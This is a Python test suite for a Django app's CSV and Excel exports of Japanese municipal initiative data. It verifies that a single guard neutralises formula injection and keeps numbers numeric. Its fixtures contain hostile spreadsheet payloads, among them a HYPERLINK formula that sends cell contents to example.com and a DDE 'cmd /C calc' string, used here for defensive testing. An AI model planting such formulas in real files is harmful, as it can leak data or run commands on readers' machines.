"""Every file written for people to open goes through one guard (`initiatives.sheets.cells`):
hostile names, texts, departments and indicators set in the database come out of every
export as inert text, and numbers as numbers. The JSON keeps the exact text."""

from __future__ import annotations

import ast
import csv
import datetime
import io
import json
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl.cell.cell import Cell

from initiatives.models import Actual, Department, Indicator, Initiative, Result, Target, YearPlan
from initiatives.sheets import cells
from initiatives.sheets.cells import FORMULA_STARTS
from tests.initiatives.sheets.plan_helpers import EXPORT_URL as PLAN_EXPORT_URL
from tests.initiatives.sheets.results_helpers import export, login

ROOT = Path(__file__).resolve().parents[3]

# Formula injections as spreadsheet programs run them (OWASP), half- and full-width.
NAME = '=HYPERLINK("http://example.com/?"&A1,"詳しくはこちら")'
DEPARTMENT = "=1+2+cmd|' /C calc'!A0"
RESULT_TEXT = "+SUM(1,2)\n2行目"
NOTE = "@SUM(A1)"
INDICATOR = "－1+1 の指標"
UNIT = "＝件"
PLAN_TEXT = "\t=1+1"
WORKING_TEXT = "\r=2+2"
HOSTILE = (NAME, DEPARTMENT, RESULT_TEXT, NOTE, INDICATOR, UNIT, PLAN_TEXT, WORKING_TEXT)
TARGET = Decimal("-5")
ACTUAL = Decimal("-3.5")


# --- the guard itself ----------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "=", "+", "'=x", "＠a", "-1"])
def test_it_neutralises_formula_looking_text_in_cells_and_csv(text) -> None:
    assert cells.cell_value(text) == "'" + text
    assert cells.csv_field(text) == "'" + text
    assert cells.unneutralise(cells.neutralise(text)) == text


@pytest.mark.parametrize(
    ("value", "cell", "field"),
    [
        (Decimal("-5"), -5, "-5"),
        (Decimal("12.5000"), 12.5, "12.5"),
        (Decimal("1E+3"), 1000, "1000"),
        (-2, -2, "-2"),
        (-0.25, -0.25, "-0.25"),
        (None, None, ""),
        ("", None, ""),
        ("-", "-", "-"),  # the tables' mark for "none": nothing follows the sign
        ("取組", "取組", "取組"),
    ],
)
def test_it_keeps_numbers_numeric_and_harmless_text_as_it_is(value, cell, field) -> None:
    assert cells.cell_value(value) == cell
    assert type(cells.cell_value(value)) is type(cell)
    assert cells.csv_field(value) == field


def test_it_writes_text_cells_that_no_program_evaluates() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    cells.append(
        sheet, [NAME, "#N/A", "a\x00b\x1fc", -5, Decimal("2.5"), datetime.date(2025, 4, 1)]
    )
    cells.put(sheet, row=2, column=1, value=DEPARTMENT)
    read = read_workbook(save(book)).active
    assert [c.data_type for c in read[1]] == ["s", "s", "s", "n", "n", "d"]
    assert [c.value for c in read[1]][:5] == ["'" + NAME, "#N/A", "abc", -5, 2.5]
    assert read["A2"].value == "'" + DEPARTMENT


def test_it_writes_a_csv_with_numbers_as_digits() -> None:
    text = cells.csv_text([["取組No.", "方針番号"], [NAME, 1], ["-", Decimal("-3.50")]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["取組No.", "方針番号"],
        ["'" + NAME, "1"],
        ["-", "-3.5"],
    ]
    assert text.endswith("\r\n")


# --- nothing else writes cells for people --------------------------------------------------

# Names the exports give worksheets (and `workbook.active`).
_SHEETS = {"sheet", "worksheet", "ws", "about", "summary", "active"}


def _is_sheet(node: ast.AST) -> bool:
    name = node.id if isinstance(node, ast.Name) else getattr(node, "attr", "")
    return name in _SHEETS or name.endswith("_sheet")


def _csv_writer(node: ast.AST) -> bool:
    return (
        isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    )


def _cell_write(node: ast.AST) -> str | None:
    if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
        return None
    if node.func.attr == "cell" and (
        len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)
    ):
        return ".cell(…, value)"
    if node.func.attr == "append" and _is_sheet(node.func.value):
        return "sheet.append"
    return None


def _assignment(node: ast.AST) -> str | None:
    for target in getattr(node, "targets", []) if isinstance(node, ast.Assign) else []:
        if isinstance(target, ast.Attribute) and target.attr == "value":
            owner = target.value
            name = owner.id if isinstance(owner, ast.Name) else getattr(owner, "attr", "")
            if "cell" in name or _is_sheet(owner) or isinstance(owner, ast.Subscript):
                return "cell.value ="
        if isinstance(target, ast.Subscript) and _is_sheet(target.value):
            return "sheet[…] ="
    return None


def _writes_cells(node: ast.AST) -> str | None:
    """What a node does that only `cells` may do, if anything."""
    if _csv_writer(node):
        return "csv.writer"
    return _cell_write(node) or _assignment(node)


def test_no_module_but_the_guard_writes_cells_or_csv_rows() -> None:
    found = []
    for folder in ("initiatives", "reports", "ops", "kanazawa_plan"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "initiatives" / "sheets" / "cells.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                what = _writes_cells(node)
                if what:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {what}")
    assert found == []


def test_the_check_sees_what_it_forbids() -> None:
    source = (
        "csv.writer(b)\nsheet.cell(1, 2, 'x')\nws.append([1])\ncell.value = 1\nsheet['A1'] = 2\n"
        "actual.value = 2\nreviews.append(1)"
    )
    tree = ast.parse(source)
    assert [_writes_cells(n) for n in tree.body[0:1] + [s.value for s in tree.body[1:3]]] == [
        None,
        ".cell(…, value)",
        "sheet.append",
    ]
    assert _writes_cells(tree.body[0].value.func) == "csv.writer"
    assert [_writes_cells(n) for n in tree.body[3:5]] == ["cell.value =", "sheet[…] ="]
    assert _writes_cells(tree.body[5]) is _writes_cells(tree.body[6].value) is None


# --- every export, read back ---------------------------------------------------------------

db = pytest.mark.django_db


@pytest.fixture
def hostile(digital, hq):
    """Hostile text everywhere initiative No.1 shows, published where exports are public."""
    initiative = Initiative.objects.get(code="1")
    Initiative.objects.filter(pk=initiative.pk).update(name=NAME)
    Department.objects.filter(ownerships__initiative=initiative).update(name=DEPARTMENT)
    indicator = Indicator.objects.filter(initiative=initiative).order_by("order").first()
    Indicator.objects.filter(pk=indicator.pk).update(name=INDICATOR, unit=UNIT)
    Target.objects.filter(indicator=indicator).update(value=TARGET)
    YearPlan.objects.filter(initiative=initiative).update(text=PLAN_TEXT)
    published = Result.objects.get(initiative=initiative, fiscal_year__year=2023)
    Result.objects.filter(pk=published.pk).update(
        published_status="undetermined",
        published_text=RESULT_TEXT,
        published_note=NOTE,
        published_at=timezone.now(),
    )
    Actual.objects.update_or_create(
        result=published, indicator=indicator, defaults={"published_value": ACTUAL}
    )
    Result.objects.filter(initiative=initiative, fiscal_year__year=2024).update(text=WORKING_TEXT)
    return digital


def save(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def read_workbook(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def inert_texts(book) -> list[str]:
    """Every text of the workbook, each checked to be inert; formulas are refused outright."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert_inert(cell.value, where=f"{sheet.title}!{cell.coordinate}")
                    texts.append(cell.value)
    return texts


def assert_inert(text: str, *, where: str) -> None:
    assert text == "-" or not text.startswith(FORMULA_STARTS), f"{where}: {text!r}"


def assert_neutralised(texts: list[str], *expected: str) -> None:
    """Each expected hostile text is in some cell, with the guard's apostrophe first."""
    joined = "\n".join(texts)
    for text in expected:
        shown = text.replace("\r", "\n") if text.startswith("\r") else text
        assert any(t.startswith("'" + shown) or t == "'" + text for t in texts), (
            text,
            joined[:300],
        )


def numbers(cells_: list[Cell]) -> list:
    return [c.value for c in cells_ if c.data_type == "n" and c.value is not None]


@db
def test_the_open_data_csv_is_inert(client, hostile) -> None:
    content = client.get("/open-data/initiatives.csv").content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, first = rows[0], next(r for r in rows[1:] if r[0] == "1")
    for row in rows:
        for field in row:
            assert_inert(field, where="initiatives.csv")
    texts = [field for row in rows for field in row]
    assert_neutralised(texts, NAME, DEPARTMENT, RESULT_TEXT, NOTE, PLAN_TEXT)
    assert f"'{INDICATOR}: -5 / -3.5 {UNIT}" in first  # the cell starts with the name
    assert first[header.index("方針番号")] == "1"  # a number, written as its digits


@db
def test_the_open_data_workbook_is_inert_with_numbers_as_numbers(client, hostile) -> None:
    book = read_workbook(client.get("/open-data/initiatives.xlsx").content)
    texts = inert_texts(book)
    assert_neutralised(texts, NAME, DEPARTMENT, RESULT_TEXT, NOTE, PLAN_TEXT)
    sheet = book["取組事項一覧"]
    headers = [c.value for c in sheet[1]]
    for header in ("方針番号", "施策番号"):
        column = [row[headers.index(header)] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "n" and isinstance(c.value, int) for c in column)


@db
def test_the_open_data_json_keeps_the_exact_text(client, hostile) -> None:
    """JSON is data for programs: nothing evaluates its strings, so nothing is changed."""
    document = client.get("/open-data/initiatives.json").content.decode()
    parsed = json.loads(document)
    assert parsed["policies"]
    for text in (NAME, DEPARTMENT, RESULT_TEXT, NOTE, INDICATOR, UNIT):
        assert json.dumps(text, ensure_ascii=False) in document
        assert json.dumps("'" + text, ensure_ascii=False) not in document


@db
def test_the_report_workbook_is_inert_with_counts_as_numbers(
    client, hostile, settings, tmp_path
) -> None:
    from tests.reports.conftest import make_edition_files

    settings.MEDIA_ROOT = tmp_path
    make_edition_files("xlsx")  # the edition's Excel tables, as the worker makes them
    response = client.get("/reports/2023.xlsx")
    assert response.status_code == 200
    book = read_workbook(b"".join(response.streaming_content))
    texts = inert_texts(book)
    assert_neutralised(texts, NAME, DEPARTMENT)
    counts = numbers([c for row in book["集計"].iter_rows(min_row=3) for c in row])
    assert counts and all(isinstance(n, int) for n in counts)
    assert "-" in texts  # the 再掲 rows' mark is left as it is


@db
def test_the_results_workbook_is_inert_with_numbers_as_numbers(hostile) -> None:
    book = read_workbook(export(login(hostile)))
    texts = inert_texts(book)
    assert_neutralised(texts, NAME, DEPARTMENT, INDICATOR, UNIT, PLAN_TEXT, WORKING_TEXT)
    sheet = book["実施結果"]
    headers = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "1")
    assert row[headers.index("指標1目標値")].value == -5
    assert row[headers.index("指標1目標値")].data_type == "n"
    assert row[headers.index("版")].data_type == "n"


@db
def test_the_plan_workbook_is_inert_with_targets_as_numbers(planner, hostile) -> None:
    response = planner.get(reverse(PLAN_EXPORT_URL))
    book = read_workbook(response.content)
    texts = inert_texts(book)
    assert_neutralised(texts, NAME, DEPARTMENT, INDICATOR, UNIT, PLAN_TEXT)
    sheet = book["指標"]
    headers = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "1")
    targets = [row[i] for i, h in enumerate(headers) if h.startswith("目標値") and row[i].value]
    assert targets and all(c.data_type == "n" and c.value == -5 for c in targets)
